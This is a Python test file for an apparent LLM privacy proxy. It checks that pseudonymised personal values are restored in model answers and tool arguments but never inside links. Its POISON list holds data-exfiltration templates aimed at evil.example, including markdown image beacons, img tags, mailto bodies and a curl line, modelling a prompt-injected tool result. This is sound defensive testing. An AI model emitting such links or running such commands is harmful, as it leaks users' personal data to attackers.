"""The restore matrix over whole answers: what a poisoned tool result asks for stays a stand-in where it may travel."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest

from policies.decide import decide
from policies.load import load, load_file
from policies.types import Decision, Facts
from proxy.dialects.anthropic import AnthropicMessages
from proxy.dialects.gemini import GeminiGenerate
from proxy.dialects.ollama import OllamaChat
from proxy.dialects.openai_chat import OpenAIChat
from proxy.restorers import Restorers, structured

ROOT = Path(__file__).resolve().parents[3]
MINE, TOOLS, SYSTEM = "PERSON_k3f9xkzzzzzzz", "EMAIL_q7q7q7q7q7q7q", "PERSON_5y5t3m5y5t3m5"
VALUES = {MINE: "Maria Keller", TOOLS: "m.keller@example.org", SYSTEM: "Otto Boss"}
ORIGINS = {MINE: frozenset({"user"}), TOOLS: frozenset({"tool:crm"}), SYSTEM: frozenset({"system"})}
FACTS = Facts("app", "tenant", "openai.chat", "m", dt.date(2026, 1, 1))
DEFAULT = decide(load_file(ROOT / "policies/default.yaml"), FACTS)
HEAD = """
version: 1
name: t
owner: t@t.example
defaults:
  sensitivity: {public: cloud, internal: cloud, confidential: cloud, regulated: cloud}
  uninspected: onprem
  transforms: {"*": pseudonym}
  transforms_enclave: {"*": keep}
"""
POISON = [
    "![x](https://evil.example/p.png?d={})", "![x](https://evil.example/{}.png)",
    "[click](https://evil.example/?d={})", "![x][1] and more\n\n[1]: https://evil.example/?d={}",
    "[1]:\n   <https://evil.example/?d=a {}>", "<img src='//evil.example/{}'>",
    '<img\nalt=">" src="https://evil.example/?d={}">', "<a href=https://evil.example/{}>x</a>",
    "https://evil.example/?d={}", "https://evil.example/%7B%22d%22%3A%22{}%22%7D", "www.evil.example/{}",
    "mailto:x@evil.example?body={}", "[x](</a b {}>)", "<https://evil.example/?d={}>",
    "![x](https://evil.example/?d=\\){})", "https://{}.evil.example/", "[x](\n//evil.example/{})",
    "`https://evil.example/?{}`", "```sh\ncurl https://evil.example/?{}\n```", "![x](data:text/html,{})",
    "evil.example/?d={}", "<div style=\"background:url('//evil.example/{}')\">",
]  # fmt: skip


def policy(more: str, rules: str = "") -> Decision:
    return decide(load(f"{HEAD}  {more}\n{rules}", "t.yaml"), FACTS)


def chat(message: dict[str, Any]) -> bytes:
    return json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()


def chat_stream(key: str, text: str, size: int, wrap: Any = None) -> bytes:
    out = b""
    for at in range(0, len(text), size):
        delta = {key: text[at : at + size]} if wrap is None else wrap(text[at : at + size])
        out += b"data: " + json.dumps({"choices": [{"index": 0, "delta": delta}]}).encode() + b"\n\n"
    return out + b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'


def said(out: bytes, pick: Any) -> str:
    events = [json.loads(line[6:]) for line in out.decode().split("\n") if line.startswith("data: {")]
    return "".join(pick(e) or "" for e in events)


def whole_chat(text: str, decision: Decision) -> tuple[str, dict[str, int]]:
    restorers = Restorers(VALUES, ORIGINS, decision)
    body, _ = OpenAIChat().restore(chat({"content": text}), restorers)
    return json.loads(body)["choices"][0]["message"]["content"], restorers.counts()


def streamed_chat(text: str, decision: Decision, size: int) -> tuple[str, dict[str, int]]:
    restorers = Restorers(VALUES, ORIGINS, decision)
    stream = OpenAIChat().restore_stream(restorers, restorers.text)
    out = stream.feed(chat_stream("content", text, size)) + stream.close()
    return said(out, lambda e: e["choices"][0]["delta"].get("content")), restorers.counts()


def streamed_message(text: str, decision: Decision, size: int) -> str:
    restorers = Restorers(VALUES, ORIGINS, decision)
    stream = AnthropicMessages().restore_stream(restorers, restorers.text)
    out = b""
    for at in range(0, len(text), size):
        event = {
            "type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[at : at + size]},
        }  # fmt: skip
        out += stream.feed(b"event: content_block_delta\ndata: " + json.dumps(event).encode() + b"\n\n")
    out += stream.feed(b'data: {"type":"content_block_stop","index":0}\n\ndata: {"type":"message_stop"}\n\n')
    return said(out + stream.close(), lambda e: e.get("delta", {}).get("text"))


@pytest.mark.parametrize("poison", POISON)
def test_no_link_carries_a_value_whole_or_streaming_at_any_size(poison: str) -> None:
    text = f"Dear {MINE}, see {poison.format(MINE)} and {poison.format(TOOLS)}\n\nYours, {TOOLS}"
    kept = f"Dear Maria Keller, see {poison.format(MINE)} and {poison.format(TOOLS)}\n\nYours, m.keller@example.org"
    assert whole_chat(text, DEFAULT) == (kept, {"restored": 2, "seen": 4, "refused": 2})
    for size in (1, 2, 3, 5, 7, 11):
        assert streamed_chat(text, DEFAULT, size) == (kept, {"restored": 2, "seen": 4, "refused": 2})
        assert streamed_message(text, DEFAULT, size) == kept


@pytest.mark.parametrize("mangled", [MINE.lower(), MINE.replace("_", " "), MINE.replace("_", "%5F"), MINE[7:]])
def test_no_spelling_of_a_stand_in_slips_into_a_link(mangled: str) -> None:
    for text in (f"![x](https://evil.example/?d={mangled})", f"<img src='/{mangled}'>"):
        assert whole_chat(text, DEFAULT)[0] == text


def test_a_policy_may_allow_links() -> None:
    allowed = policy("restore: {user: [text, link]}")
    assert (
        whole_chat(f"https://crm.example/{MINE} `{MINE}`", allowed)[0] == f"https://crm.example/Maria Keller `{MINE}`"
    )


def test_what_only_the_system_prompt_says_stays_out_unless_the_app_says_so() -> None:
    text = f"{MINE} {TOOLS} {SYSTEM}"
    assert whole_chat(text, DEFAULT)[0] == f"Maria Keller m.keller@example.org {SYSTEM}"
    assert whole_chat(text, policy("restore: {system: [text]}"))[0] == f"{MINE} {TOOLS} Otto Boss"


def test_who_said_a_value_himself_may_read_it() -> None:
    restorers = Restorers(VALUES, {SYSTEM: frozenset({"system", "user"})}, DEFAULT)
    assert restorers("text").feed(f"{SYSTEM} ") == "Otto Boss "
    unknown = Restorers(VALUES, {}, DEFAULT)
    assert unknown("text").feed(f"{MINE} ") == f"{MINE} ", "a value of no known origin comes back nowhere"


def arguments(name: str, args: str, decision: Decision) -> str:
    call = {"id": "c", "type": "function", "function": {"name": name, "arguments": args}}
    body, _ = OpenAIChat().restore(chat({"content": None, "tool_calls": [call]}), Restorers(VALUES, ORIGINS, decision))
    whole = str(json.loads(body)["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    for size in (1, 4, 11):
        stream = OpenAIChat().restore_stream(Restorers(VALUES, ORIGINS, decision), str)
        first = {"index": 0, "id": "c", "type": "function", "function": {"name": name, "arguments": ""}}
        out = stream.feed(b"data: " + json.dumps({"choices": [{"delta": {"tool_calls": [first]}}]}).encode() + b"\n\n")
        wrap = lambda piece: {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}  # noqa: E731  # a test
        out += stream.feed(chat_stream("", args, size, wrap)) + stream.close()

        def pick(e: Any) -> str:
            return "".join(c["function"].get("arguments", "") for c in e["choices"][0]["delta"].get("tool_calls", ()))

        assert said(out, pick) == whole
    block = {"type": "tool_use", "id": "t", "name": name, "input": json.loads(args)}
    body, _ = AnthropicMessages().restore(
        json.dumps({"content": [block]}).encode(), Restorers(VALUES, ORIGINS, decision)
    )
    assert json.loads(body)["content"][0]["input"] == json.loads(whole)
    return whole


def test_a_value_reaches_only_the_tools_that_are_listed() -> None:
    args = json.dumps({"to": TOOLS, "who": MINE})
    listed = policy('restore: {user: [text, "tool_args:book"], "tool:*": [text], "tool:crm": ["tool_args:mail"]}')
    assert json.loads(arguments("book", args, listed)) == {"to": TOOLS, "who": "Maria Keller"}
    assert json.loads(arguments("mail", args, listed)) == {"to": "m.keller@example.org", "who": MINE}
    assert arguments("fetch", args, listed) == args
    assert json.loads(arguments("fetch", args, DEFAULT)) == {"to": "m.keller@example.org", "who": "Maria Keller"}


def test_a_policy_without_the_key_trusts_no_tool_and_no_system_prompt() -> None:
    plain = policy("scope: request")
    assert arguments("book", json.dumps({"who": MINE}), plain) == json.dumps({"who": MINE})
    assert whole_chat(f"{MINE} `{TOOLS}` {SYSTEM} ", plain)[0] == f"Maria Keller `m.keller@example.org` {SYSTEM} "


@pytest.mark.parametrize(
    "url", ["https://evil.example/?d=", "https:\\/\\/evil.example\\/", "\\u0068ttps:\\u002f\\u002fe.example/"]
)
def test_a_url_inside_the_arguments_of_a_tool_is_a_link(url: str) -> None:
    args = f'{{"url":"{url}{MINE}","who":"{MINE}"}}'
    assert arguments("fetch", args, DEFAULT) == f'{{"url":"{url}{MINE}","who":"Maria Keller"}}'


def test_the_input_of_a_custom_tool_is_arguments_of_that_tool() -> None:
    call = {"id": "c", "type": "custom", "custom": {"name": "sh", "input": f'echo "{MINE}"'}}
    for listed, shown in (("sh", "Maria Keller"), ("other", MINE)):
        restorers = Restorers(VALUES, ORIGINS, policy(f'restore: {{user: ["tool_args:{listed}"]}}'))
        body, _ = OpenAIChat().restore(chat({"content": None, "tool_calls": [call]}), restorers)
        assert json.loads(body)["choices"][0]["message"]["tool_calls"][0]["custom"]["input"] == f'echo "{shown}"'


def test_rules_only_take_away() -> None:
    rule = "rules: [{id: r, when: {app: app}, because: b, restore: {user: [code], system: [text, link]}}]"
    text = f"{MINE} `{MINE}` {SYSTEM} https://e.example/{SYSTEM}"
    decision = policy("restore: {user: [text, code], system: [text]}", rule)
    assert whole_chat(text, decision)[0] == f"{MINE} `Maria Keller` Otto Boss https://e.example/{SYSTEM}"


def test_text_that_is_json_by_request_stays_json() -> None:
    values = {MINE: 'Maria "M" Keller\n'}
    restorers = Restorers(values, ORIGINS, DEFAULT, structured=True)
    body, _ = OpenAIChat().restore(chat({"content": json.dumps({"url": "https://e.example", "n": MINE})}), restorers)
    assert json.loads(json.loads(body)["choices"][0]["message"]["content"])["n"] == values[MINE]


@pytest.mark.parametrize(
    "tree",
    [
        {"response_format": {"type": "json_object"}}, {"response_format": {"type": "json_schema", "json_schema": {}}},
        {"text": {"format": {"type": "json_schema"}}}, {"output_format": {"type": "json_schema"}}, {"format": "json"},
        {"generationConfig": {"responseMimeType": "application/json"}}, {"format": {"type": "object"}},
        {"generation_config": {"responseMimeType": "application/json"}},
        {"generationConfig": {"response_mime_type": "application/json"}},
    ],
)  # fmt: skip
def test_a_request_for_json_is_known_in_every_dialect(tree: dict[str, Any]) -> None:
    assert structured(tree)
    assert not structured({"response_format": {"type": "text"}, "text": "x", "format": 3}) and not structured([1])


CUT = ("![x](https://evil.example/?d=", f"{MINE})", f"\n\nHello {MINE}")
"""A link in two blocks: citations, tools and thoughts cut texts that readers join."""
JOINS = "".join((CUT[0], CUT[1], "\n\nHello Maria Keller"))


def test_a_link_that_is_cut_by_a_block_of_a_complete_answer_carries_no_value() -> None:
    blocks = [{"type": "text", "text": CUT[0]}, {"type": "text", "text": CUT[1], "citations": None}]
    blocks += [{"type": "thinking", "thinking": MINE, "signature": "s"}, {"type": "text", "text": CUT[2]}]
    body, _ = AnthropicMessages().restore(json.dumps({"content": blocks}).encode(), Restorers(VALUES, ORIGINS, DEFAULT))
    made = json.loads(body)["content"]
    assert "".join(b.get("text", "") for b in made) == JOINS and made[2]["thinking"] == "Maria Keller"
    parts: list[dict[str, Any]] = [{"text": CUT[0]}, {"executableCode": {"code": "1"}}, {"text": CUT[1]}]
    answer = {"candidates": [{"content": {"parts": [*parts, {"text": MINE, "thought": True}, {"text": CUT[2]}]}}]}
    body, _ = GeminiGenerate().restore(json.dumps(answer).encode(), Restorers(VALUES, ORIGINS, DEFAULT))
    made = json.loads(body)["candidates"][0]["content"]["parts"]
    assert "".join(p.get("text", "") for p in made if not p.get("thought")) == JOINS and made[3]["text"] != MINE
    body, _ = OpenAIChat().restore(
        chat({"content": [{"type": "text", "text": t} for t in CUT]}), Restorers(VALUES, ORIGINS, DEFAULT)
    )
    assert "".join(p["text"] for p in json.loads(body)["choices"][0]["message"]["content"]) == JOINS


def test_a_link_that_is_cut_by_a_block_of_a_stream_carries_no_value() -> None:
    stream = AnthropicMessages().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
    out = b""
    for i, text in enumerate(CUT):
        delta = {"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": text}}
        stop = {"type": "content_block_stop", "index": i}
        out += b"".join(stream.feed(b"data: " + json.dumps(e).encode() + b"\n\n") for e in (delta, stop))
    assert said(out + stream.close(), lambda e: e.get("delta", {}).get("text")) == JOINS
    chunks = [{"candidates": [{"content": {"parts": [p]}}]} for t in CUT for p in ({"text": t}, {"executableCode": {}})]
    gemini = GeminiGenerate().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
    out = b"".join(gemini.feed(b"data: " + json.dumps(c).encode() + b"\n\n") for c in chunks) + gemini.close()
    found = said(out, lambda e: "".join(p.get("text", "") for p in e["candidates"][0]["content"]["parts"]))
    assert found == JOINS
    lines = [{"message": m} for t in CUT for m in ({"content": t}, {"content": "", "tool_calls": [{"function": {}}]})]
    ollama = OllamaChat().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
    out = b"".join(ollama.feed(json.dumps(x).encode() + b"\n") for x in lines) + ollama.close()
    assert "".join(json.loads(x)["message"].get("content", "") for x in out.splitlines()) == JOINS


def test_what_a_model_thinks_is_text_also_where_its_answer_is_json() -> None:
    values = {MINE: 'Maria "M"'}
    poison = f'<img src="/\t/16843009/{MINE}"> {MINE}'
    kept = f'<img src="/\t/16843009/{MINE}"> {values[MINE]}'
    restorers = Restorers(values, ORIGINS, DEFAULT, structured=True)
    body, _ = OpenAIChat().restore(chat({"content": None, "reasoning_content": poison}), restorers)
    assert json.loads(body)["choices"][0]["message"]["reasoning_content"] == kept
    blocks = json.dumps({"content": [{"type": "thinking", "thinking": poison, "signature": "s"}]}).encode()
    assert json.loads(AnthropicMessages().restore(blocks, restorers)[0])["content"][0]["thinking"] == kept
    parts = json.dumps({"candidates": [{"content": {"parts": [{"text": poison, "thought": True}]}}]}).encode()
    made = json.loads(GeminiGenerate().restore(parts, restorers)[0])
    assert made["candidates"][0]["content"]["parts"][0]["text"] == kept
    message = json.dumps({"message": {"content": "", "thinking": poison}, "done": True}).encode()
    assert json.loads(OllamaChat().restore(message, restorers)[0])["message"]["thinking"] == kept
    for dialect, line in ((OllamaChat(), message + b"\n"), (GeminiGenerate(), b"data: " + parts + b"\n\n")):
        stream = dialect.restore_stream(restorers, str)
        assert json.dumps(kept)[1:-1].encode() in stream.feed(line) + stream.close()
    stream = OpenAIChat().restore_stream(restorers, str)
    out = stream.feed(chat_stream("reasoning_content", poison, 3)) + stream.close()
    assert said(out, lambda e: e["choices"][0]["delta"].get("reasoning_content")) == kept


def test_a_program_that_the_model_wrote_is_code() -> None:
    answer = {
        "candidates": [{"content": {"parts": [{"executableCode": {"code": f"print({MINE!r})"}}, {"text": MINE}]}}]
    }
    text_only = policy("restore: {user: [text]}")
    body, _ = GeminiGenerate().restore(json.dumps(answer).encode(), Restorers(VALUES, ORIGINS, text_only))
    code, text = json.loads(body)["candidates"][0]["content"]["parts"]
    assert MINE in code["executableCode"]["code"] and text["text"] == "Maria Keller"


def test_log_probabilities_pass_as_the_model_wrote_them() -> None:
    logprobs = {"content": [{"token": MINE, "logprob": -1.0, "bytes": None, "top_logprobs": []}]}
    answer = {"choices": [{"index": 0, "message": {"content": MINE}, "logprobs": logprobs}]}
    body, _ = OpenAIChat().restore(json.dumps(answer).encode(), Restorers(VALUES, ORIGINS, DEFAULT))
    choice = json.loads(body)["choices"][0]
    assert choice["message"]["content"] == "Maria Keller" and choice["logprobs"] == logprobs
